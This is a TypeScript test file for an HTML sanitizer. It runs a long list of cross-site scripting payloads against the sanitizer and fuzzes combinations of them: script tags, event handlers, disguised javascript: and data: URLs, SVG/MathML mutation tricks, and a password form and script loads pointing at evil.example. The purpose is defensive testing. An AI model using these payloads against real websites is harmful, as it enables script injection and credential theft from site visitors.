/** @jest-environment jsdom */
import fc from 'fast-check';

import { toSafeHtml } from './sanitize';

const HOST = 'https://host.example';

/** Resolves as the site does: against the host, and to the web's own two schemes only. */
function againstHost(path: string): string | undefined {
  const address = path.trim();
  if (!URL.canParse(address, HOST)) return undefined;
  const url = new URL(address, HOST);
  return /^https?:$/.test(url.protocol) ? url.href : undefined;
}

/** A careless resolver: the cleaning must be safe without the resolver's help. */
const asItIs = (path: string) => path;

const clean = (html: string) => toSafeHtml(html, againstHost);

const ELEMENTS = new Set(
  `H3 H4 H5 H6 P DIV SPAN BR HR BLOCKQUOTE PRE CODE STRONG B EM I U S SUB SUP UL OL LI DL DT DD A IMG FIGURE FIGCAPTION
   TABLE CAPTION THEAD TBODY TFOOT TR TH TD`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  'href target rel src alt width height loading decoding start type reversed colspan rowspan scope lang dir'.split(' '),
);
const SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** The element that holds `html` where a browser has read it inside a page, and what came after it. */
function asBrowserReads(html: string) {
  const page = new DOMParser().parseFromString(
    `<!doctype html><div id="field">${html}</div><section id="rest">rest</section>`,
    'text/html',
  );
  return { field: page.querySelector('#field'), rest: page.querySelector('#rest'), page };
}

/** Everything that a browser finds in `html` and that a host's field must not bring into a page. */
function dangersIn(html: string): string[] {
  const { field, rest, page } = asBrowserReads(html);
  const dangers: string[] = [];
  if (!field || rest?.previousElementSibling !== field || rest.innerHTML !== 'rest') {
    dangers.push('changes what follows');
  }
  if (page.body.children.length !== 2 || page.head.childNodes.length > 0 || page.body.attributes.length > 0)
    dangers.push('breaks out');
  const nodes = page.createTreeWalker(page.documentElement, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT);
  while (nodes.nextNode()) {
    const node = nodes.currentNode;
    if (!(node instanceof Element)) {
      dangers.push('comment');
      continue;
    }
    if (node === field || node === rest || node === page.head || node === page.body) continue;
    if (!ELEMENTS.has(node.tagName)) dangers.push(`element ${node.tagName}`);
    for (const { name, value } of node.attributes) {
      if (!ATTRIBUTES.has(name)) dangers.push(`attribute ${name}`);
      if (name !== 'href' && name !== 'src') continue;
      if (/^\s*[\\/]{2}/.test(value)) dangers.push(`protocol-relative ${value}`);
      const scheme = URL.canParse(value, 'https://site.example/page') && new URL(value, 'https://site.example/page');
      if (scheme && !SCHEMES.has(scheme.protocol)) dangers.push(`scheme ${scheme.protocol}`);
    }
  }
  return dangers;
}

const ATTACKS = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<p><script type="text/javascript">alert(1)</script ></p>',
  '"><script>alert(1)</script>',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR="alert(1)">',
  '<p onmouseover="alert(1)">text</p>',
  '<p\nonclick\n=\n"alert(1)">text</p>',
  '<a href="#x" onfocus=alert(1) autofocus tabindex=1>text</a>',
  '<div onpointerrawupdate=alert(1)>text</div>',
  '<img src="x` `onerror=alert(1)" onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<marquee onstart=alert(1)>text</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  // javascript: and its like in disguise
  '<a href="javascript:alert(1)">text</a>',
  '<a href="JaVaScRiPt:alert(1)">text</a>',
  '<a href="  javascript:alert(1)">text</a>',
  '<a href="java\tscript:alert(1)">text</a>',
  '<a href="java\nscript:alert(1)">text</a>',
  '<a href="java&#x0A;script:alert(1)">text</a>',
  '<a href="java&Tab;script&colon;alert(1)">text</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">text</a>',
  '<a href="&#0000106avascript:alert(1)">text</a>',
  '<a href="\u0001javascript:alert(1)">text</a>',
  '<a href=javascript:alert(1)//>text</a>',
  "<a href='javascript:alert(&quot;1&quot;)'>text</a>",
  '<a href="vbscript:msgbox(1)">text</a>',
  '<a href="data:text/html,<script>alert(1)</script>">text</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">text</a>',
  '<a href="blob:https://site.example/1">text</a>',
  '<a href="file:///etc/passwd">text</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://host.example/a.png" srcset="javascript:alert(1) 1x, data:image/png;base64,A 2x">',
  '<img src="/a.png" srcset="https://evil.example/seen.png 2x">',
  '<picture><source srcset="https://evil.example/x.png"><img src="/a.png"></picture>',
  '<img src="/a.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>text</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">text</blockquote>',
  '<a href="#x" ping="https://evil.example/">text</a>',
  '<a href="/x" xlink:href="javascript:alert(1)">text</a>',
  // Protocol-relative addresses
  '<a href="//evil.example/x">text</a>',
  '<a href="\\\\evil.example/x">text</a>',
  '<a href="/\\evil.example/x">text</a>',
  '<img src="//evil.example/x.png">',
  // Styles
  '<style>body{display:none}</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<p style="background:url(javascript:alert(1))">text</p>',
  '<p class="fixed inset-0" id="nav">text</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  // Frames, forms and documents
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<frameset><frame src="javascript:alert(1)"></frameset><iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">text</button>',
  '<form><button formaction=javascript:alert(1)>text</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // Markup that changes its meaning when it is read again
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>text</text></a></svg>',
  '<svg><desc><table><a id="</desc><img src=x onerror=alert(1)>"></table></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">text</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>text</custom-element>',
  // Unclosed tags that swallow the page behind them
  '<p title="',
  '<a href="https://evil.example/?',
  '<img src=x onerror=alert(1) alt="',
  '<!-- never closed',
  '<textarea>',
  '<b><i><a href="https://evil.example/">'.repeat(5),
  '</div></div></section><p>out of its place</p>',
];

test.each(ATTACKS)('takes the danger out of %j', (attack) => {
  expect(dangersIn(attack)).not.toEqual([]);
  expect(dangersIn(clean(attack))).toEqual([]);
  expect(dangersIn(toSafeHtml(attack, asItIs))).toEqual([]);
});

const fragment = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc
    .tuple(
      fc.constantFrom(
        ...['p', 'div', 'b', 'a', 'li', 'ul', 'td', 'tr', 'table', 'h1', 'img', 'span', 'pre', 'code', 'dl', 'dd'],
        ...['script', 'style', 'svg', 'math', 'iframe', 'noscript', 'template', 'textarea', 'title', 'form', 'select'],
      ),
      fc.constantFrom('', ' ', '/', '\n'),
      fc.constantFrom(
        ...[
          '',
          'onclick=x',
          'OnLoad="x"',
          'href="javascript:x"',
          "href='&#106;avascript:x'",
          'src=x',
          'src="//e.example"',
        ],
        ...['style="x"', 'srcset=x', 'alt="<script>"', "title='", 'href="', 'src=data:x', 'lang=hi', 'colspan=2'],
      ),
      fc.constantFrom('>', '/>', '', ' >', '</'),
    )
    .map(([name, space, attribute, end]) => `<${name}${space}${attribute}${end}`),
  fc.constantFrom('</p>', '</b>', '</a>', '</div>', '</script>', '</style>', '</svg>', '</table>', '</td>', '</ul>'),
  fc.constantFrom('<', '>', '"', "'", '<!--', '-->', '<![CDATA[', ']]>', '&lt;', '&#x3c;script&#x3e;', '&', '\0', '`'),
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.constantFrom('परीक्षा', 'words in between', ' '),
);

const mixture = fc.array(fragment, { maxLength: 14 }).map((pieces) => pieces.join(''));

test('whatever comes in, nothing dangerous comes out', () => {
  fc.assert(
    fc.property(mixture, fc.constantFrom(againstHost, asItIs), (html, resolveUrl) => {
      expect(dangersIn(toSafeHtml(html, resolveUrl))).toEqual([]);
    }),
    { numRuns: 400 },
  );
});

test('cleaning twice changes nothing', () => {
  fc.assert(
    fc.property(mixture, (html) => {
      const once = clean(html);
      const read = asBrowserReads(once).page;
      const readAgain = asBrowserReads(clean(once)).page;
      if (!read.isEqualNode(readAgain)) throw new Error(`${once}\nbecame\n${clean(once)}`);
    }),
    { numRuns: 400 },
  );
});

test('a script written as text stays text', () => {
  expect(clean('<p>&lt;script&gt;alert(1)&lt;/script&gt; 3 < 4 & 5</p>')).toBe(
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; 3 &lt; 4 &amp; 5</p>',
  );
});

test.each([
  ['<script>alert(1)</script>after', 'after'],
  ['<style>p { color: red }</style>after', 'after'],
  ['<object data="x"><p>instead</p></object>', '<p>instead</p>'],
  ['<p class="x" style="y" onclick="z" lang="hi" dir="ltr">text</p>', '<p lang="hi" dir="ltr">text</p>'],
])('of %j, %j stays', (html, rest) => {
  expect(clean(html)).toBe(rest);
});

test.each([
  '<p>One <strong>two</strong> <em>three</em> H<sub>2</sub>O x<sup>2</sup></p>',
  '<ol start="3" type="a" reversed><li>one</li></ol><ul><li>two</li></ul>',
  '<dl><dt>term</dt><dd>meaning</dd></dl>',
  '<table><caption>Papers</caption><thead><tr><th scope="col" colspan="2">Paper</th></tr></thead></table>',
  '<blockquote>said</blockquote><pre><code>code</code></pre>',
  '<p lang="hi">संघ लोक सेवा आयोग</p>',
  '<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6>',
])('leaves %s as it is', (html) => {
  expect(clean(html)).toBe(html);
});

test('tags that were left open are closed', () => {
  expect(clean('<ul><li>one<li><b>two')).toBe('<ul><li>one</li><li><b>two</b></li></ul>');
});

test("headings move below the page's own", () => {
  expect(clean('<h1>one</h1><h2>two</h2>')).toBe('<h3>one</h3><h3>two</h3>');
});

test('deep nesting is cut and keeps its text', () => {
  const html = clean(`${'<div>'.repeat(500)}text${'</div>'.repeat(500)}`);
  expect(html.match(/<div>/g)).toHaveLength(60);
  expect(html).toContain('text');
});

test.each([
  ['uploads/a.pdf', `${HOST}/uploads/a.pdf`],
  ['/uploads/a.pdf', `${HOST}/uploads/a.pdf`],
  ['https://upsc.gov.in/a?b=1', 'https://upsc.gov.in/a?b=1'],
])('a link to %s is resolved, and opens beside the site without a hold on it', (href, resolved) => {
  expect(clean(`<a href="${href}" rel="opener" target="_self" download>text</a>`)).toBe(
    `<a href="${resolved}" target="_blank" rel="noopener nofollow">text</a>`,
  );
});

test.each(['mailto:office@example.org', 'tel:+911100000000', '#part-2'])('a link to %s stays as it is', (href) => {
  expect(clean(`<a href="${href}" target="_blank">text</a>`)).toBe(`<a href="${href}">text</a>`);
});

test('a link whose address must not be used keeps its text', () => {
  expect(clean('<a href="javascript:alert(1)">text</a>')).toBe('<a>text</a>');
});

test('an image is resolved, loads late and always has an alternative text', () => {
  const { field } = asBrowserReads(clean('<img src="uploads/a.png" width="4" height="3" loading="eager">'));
  const image = field?.querySelector('img');
  expect(Object.fromEntries([...(image?.attributes ?? [])].map(({ name, value }) => [name, value]))).toEqual({
    src: `${HOST}/uploads/a.png`,
    alt: '',
    width: '4',
    height: '3',
    loading: 'lazy',
    decoding: 'async',
  });
  expect(clean('<img src="a.png" alt="Map of India">')).toContain('alt="Map of India"');
});

test.each(['<img>', '<img src="">', '<img src="javascript:alert(1)">', '<img src="data:image/png;base64,AAAA">'])(
  'the image %s has nothing to show and is dropped',
  (image) => {
    expect(clean(`<p>a${image}b</p>`)).toBe('<p>ab</p>');
  },
);
